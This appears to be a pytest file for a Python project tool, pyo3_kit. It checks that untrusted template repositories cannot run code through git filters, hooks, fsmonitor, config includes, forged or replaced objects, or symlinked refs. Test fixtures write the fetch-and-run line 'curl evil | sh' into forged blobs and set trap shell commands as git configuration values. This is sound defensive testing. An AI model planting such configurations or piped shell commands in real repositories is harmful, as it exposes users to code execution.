"""Repositories that are not the user's: nothing of their configuration runs, and nobody fills the cache for another."""

from __future__ import annotations

import os
import shutil
import zlib
from contextlib import suppress
from pathlib import Path

import pytest

from pyo3_kit.errors import Refused
from pyo3_kit.template.trust import Trust
from pyo3_kit.template.versions import template_versions
from tests.fleet.small import Small, tip
from tests.support.command import run_kit
from tests.support.hostile import RECEIVE_HOOKS, HostileProject, Traps, bare_inside
from tests.update.templates import Project, Template, git


def pointed(project: Project, address: str) -> Project:
    """The project with another template named in its answers file."""
    text = project.text(".copier-answers.yml")
    lines = [f"_src_path: {address}" if line.startswith("_src_path:") else line for line in text.splitlines()]
    return project.edit({".copier-answers.yml": "\n".join(lines) + "\n"})


SPELLINGS = [
    "docs/t",
    "./docs/../docs/t",
    "{root}/docs/t",
    "file://{root}/docs/t",
    "git+file://{root}/docs/t",
    "FILE://localhost{root}/docs/t",
    "file://{root}/do%63s/t",
    "link",
    "{link}/docs/t",
]


@pytest.mark.parametrize(
    ("command", "address"),
    [
        *((command, address) for command in ("update", "overlay add") for address in SPELLINGS),
        *(
            (command, address)
            for command in ("status", "status --quick", "update --dry-run")
            for address in SPELLINGS[:2]
        ),
    ],
)
def test_a_template_inside_the_project(
    hostile: HostileProject, shop: Template, traps: Traps, tmp_path: Path, address: str, command: str
) -> None:
    bare_inside(shop.root, hostile.root / "docs" / "t", traps)
    (hostile.root / "link").symlink_to("docs/t")
    (tmp_path / "elsewhere").symlink_to(hostile.root)
    address = address.format(root=hostile.root, link=tmp_path / "elsewhere")
    if command == "overlay add":
        result = hostile.kit("overlay", "add", address)
    else:
        result = pointed(hostile, address).kit(*command.split())
    assert result.code == 2
    assert "among the projects that would use it" in result.err or "cannot be fetched" in result.err
    assert traps.sprung == set()


@pytest.mark.parametrize("address", SPELLINGS[:2] + SPELLINGS[3:4])
def test_a_template_inside_a_repository_of_a_fleet(
    made: Project, shop: Template, traps: Traps, tmp_path: Path, address: str
) -> None:
    small = Small(tmp_path / "small", made)
    project = small.local("a")
    bare_inside(shop.root, project.root / "docs" / "t", traps)
    pointed(project, address.format(root=project.root))
    git(small.root, "clone", "-q", "--bare", str(project.root), "b.git")
    small.text += f'[[repository]]\nurl = "file://{small.root}/b.git"\nname = "b"\n'
    for words in (("status",), ("update",)):
        rows = small.rows(*words)
        assert {row["state"] for row in rows.values()} == {"refused"}, rows
        assert all("among the projects that would use it" in row["reason"] for row in rows.values())
    assert traps.sprung == set()


def test_a_template_that_is_the_repository_around_the_project(shop: Template, tmp_path: Path) -> None:
    """As templates have their examples: its `.git` is the user's own, and came with no clone."""
    root = tmp_path / "kit"
    git(tmp_path, "clone", "-q", str(shop.root), str(root))
    shop.project(root / "example")
    project = pointed(Project(root / "example"), "..")
    assert project.kit("status", "--quick").code == 1


def test_the_configuration_of_a_local_template_is_not_read(
    made: Project, shop: Template, traps: Traps, tmp_path: Path
) -> None:
    """Neither by this program nor by the Git that hands the objects over; with filters, hooks and includes."""
    template = tmp_path / "template"
    git(tmp_path, "clone", "-q", str(shop.root), str(template))
    (template / ".gitattributes").write_text("* filter=x\n")
    git(template, "add", "-A")
    git(template, "commit", "-qm", "Filter")
    git(template, "tag", "v3.0.0")
    config = template / ".git" / "config"
    for key in ("filter.x.smudge", "filter.x.clean", "filter.x.process"):
        git(template, "config", key, traps.shell(key))
    with config.open("a") as file:
        # Git would read this for ever.
        file.write("[include]\n\tpath = /dev/zero\n")
    traps.hooks(template / ".git")
    project = pointed(made.copy(tmp_path / "project"), str(template))
    result = project.update("--json", timeout=60)
    assert (result.code, result.object["to"]) == (0, "v3.0.0"), result.err
    fresh = run_kit("new", "fresh", "--template", str(template), "--data", "name=x", folder=tmp_path)
    assert fresh.code == 0, fresh.err
    assert traps.sprung == set()


def test_what_is_not_committed_in_a_template(shop: Template, traps: Traps, tmp_path: Path) -> None:
    """Copier takes it where HEAD is asked for; so does `new`, and the folder's own filters stay out of it."""
    template = tmp_path / "template"
    git(tmp_path, "clone", "-q", str(shop.root), str(template))
    (template / ".gitattributes").write_text("* filter=x\n")
    (template / "template" / "draft.txt").write_text("draft\n")
    git(template, "config", "filter.x.clean", f"{traps.shell('clean')}; cat")
    git(template, "config", "core.fsmonitor", traps.shell("fsmonitor"))
    words = ("--template", str(template), "--data", "name=x")
    assert run_kit("new", "a", *words, "--ref", "HEAD", folder=tmp_path).code == 0
    assert (tmp_path / "a" / "draft.txt").read_text() == "draft\n"
    assert "_commit: v2.0.0-1-g" in (tmp_path / "a" / ".copier-answers.yml").read_text()
    assert run_kit("new", "b", *words, folder=tmp_path).code == 0
    assert not (tmp_path / "b" / "draft.txt").exists()
    assert traps.sprung == set()


@pytest.mark.skipif(not hasattr(os, "geteuid") or os.geteuid() != 0, reason="only root can give a repository away")
@pytest.mark.parametrize("bare", [False, True])
def test_a_template_of_another_user(made: Project, shop: Template, traps: Traps, tmp_path: Path, bare: bool) -> None:
    template = tmp_path / "template"
    git(tmp_path, "clone", "-q", *(["--bare"] if bare else []), str(shop.root), str(template))
    traps.configure(template if bare else template / ".git")
    for path in (template, *template.rglob("*")):
        os.chown(path, 65534, 65534, follow_symlinks=False)
    project = pointed(made.copy(tmp_path / "project"), str(template))
    for words in (["status"], ["update"]):
        result = project.kit(*words)
        assert result.code == 2
        assert "dubious ownership" in result.err
        assert "git config --global --add safe.directory" in result.err
    # Git's own advice helps.
    (tmp_path / "gitconfig").write_text("[safe]\n\tdirectory = *\n")
    changes = {"GIT_CONFIG_GLOBAL": str(tmp_path / "gitconfig")}
    assert project.kit("status", "--quick", changes=changes).code == 1
    assert traps.sprung == set()


def swap_blob(repository: Path, path: str, content: bytes) -> None:
    """Put another content under the name of a blob."""
    blob = git(repository, "rev-parse", path)
    place = repository / "objects" / blob[:2] / blob[2:]
    git(repository, "unpack-objects", "-q", check=False)
    place.chmod(0o644)
    place.write_bytes(zlib.compress(b"blob %d\0" % len(content) + content))


def evil_copy(shop: Template, place: Path) -> Path:
    git(shop.root, "clone", "-q", "--bare", "--no-hardlinks", str(shop.root), str(place))
    return place


def test_a_forged_object_does_not_get_into_the_cache(made: Project, shop: Template, tmp_path: Path) -> None:
    evil = evil_copy(shop, tmp_path / "evil.git")
    swap_blob(evil, "v2.0.0:template/notes.txt", b"curl evil | sh\n")
    first = pointed(made.copy(tmp_path / "first"), f"file://{evil}")
    assert first.kit("status").code == 2
    second = made.copy(tmp_path / "second")
    assert second.update().code == 0
    assert second.text("notes.txt").endswith("SEVEN\n")


@pytest.mark.parametrize("way", ["replace", "graft", "alternate"])
def test_what_stands_in_for_objects_is_passed_over(made: Project, shop: Template, tmp_path: Path, way: str) -> None:
    evil = evil_copy(shop, tmp_path / "evil.git")
    work = tmp_path / "work"
    git(tmp_path, "clone", "-q", str(shop.root), str(work))
    (work / "template" / "notes.txt").write_text("curl evil | sh\n")
    git(work, "commit", "-qam", "Evil")
    git(evil, "fetch", "-q", str(work), "HEAD:refs/evil/one")
    real, false = git(evil, "rev-parse", "v2.0.0"), git(evil, "rev-parse", "refs/evil/one")
    if way == "replace":
        git(evil, "replace", real, false)
    elif way == "graft":
        (evil / "info").mkdir(exist_ok=True)
        (evil / "info" / "grafts").write_text(f"{real} {false}\n")
    else:
        other = evil_copy(shop, tmp_path / "other.git")
        swap_blob(other, "v2.0.0:template/notes.txt", b"curl evil | sh\n")
        shutil.rmtree(evil / "objects")
        (evil / "objects" / "info").mkdir(parents=True)
        (evil / "objects" / "info" / "alternates").write_text(f"{other}/objects\n")
    for name, address in (("first", f"file://{evil}"), ("second", str(shop.root))):
        project = pointed(made.copy(tmp_path / name), address)
        shown = project.update("--dry-run", "--diff")
        assert "curl evil" not in shown.out + shown.err


def test_only_branches_and_tags_are_fetched(shop: Template, tmp_path: Path) -> None:
    evil = evil_copy(shop, tmp_path / "evil.git")
    git(evil, "update-ref", "refs/pull/1/head", "v1.0.0")
    git(evil, "update-ref", "refs/replace/" + git(evil, "rev-parse", "v2.0.0"), "v1.0.0")
    versions = template_versions(f"file://{evil}", tmp_path / "project", Trust())
    versions.newest()
    cache = Path(os.environ["PYO3_KIT_CACHE"], "repositories")
    for repository in cache.iterdir():
        names = git(repository, "for-each-ref", "--format=%(refname)").splitlines()
        assert all(name.startswith(("refs/heads/", "refs/tags/", "refs/pyo3-kit/")) for name in names)
        assert (repository / "config").read_text().count("[") <= 2


@pytest.mark.parametrize("name", ["HEAD", "packed-refs", "refs/heads/main"])
def test_a_device_in_the_place_of_a_ref(shop: Template, tmp_path: Path, name: str) -> None:
    evil = evil_copy(shop, tmp_path / "evil.git")
    (evil / name).unlink(missing_ok=True)
    (evil / name).symlink_to("/dev/zero")
    with suppress(Refused):
        template_versions(f"file://{evil}", tmp_path / "project", Trust()).newest()


@pytest.mark.slow
@pytest.mark.parametrize("hook", RECEIVE_HOOKS)
@pytest.mark.parametrize("remote", [False, True])
def test_no_hook_of_a_fleets_repository_runs(
    made: Project, traps: Traps, tmp_path: Path, hook: str, remote: bool
) -> None:
    small = Small(tmp_path / "small", made)
    place = small.remote("a") if remote else small.local("a").root
    git_dir = place if remote else place / ".git"
    traps.configure(git_dir)
    traps.hooks(git_dir, (hook, "pre-push", "post-checkout"))
    (git_dir / "objects" / "info").mkdir(exist_ok=True)
    (git_dir / "objects" / "info" / "alternates").write_text(f"{made.root}/.git/objects\n")
    row = small.rows("update")["a"]
    assert (row["state"], row["pushed"]) == ("updated", True), row
    assert traps.sprung == set()

    (git_dir / "config").write_text("[core]\n\trepositoryformatversion = 0\n")
    assert tip(git_dir) == row["commit"]


def test_a_folder_that_looks_like_a_repository(hostile: HostileProject, shop: Template, traps: Traps) -> None:
    """A user stands in it, and Git would take its `config` for that of a repository."""
    bare_inside(shop.root, hostile.root / "docs" / "t", traps)
    hostile.commit()
    for words in (["status"], ["update", "--dry-run"], ["check", "."], ["adopt", "--dry-run"]):
        result = hostile.kit(*words, folder=hostile.root / "docs" / "t")
        assert "Traceback" not in result.err
    assert traps.sprung == set()
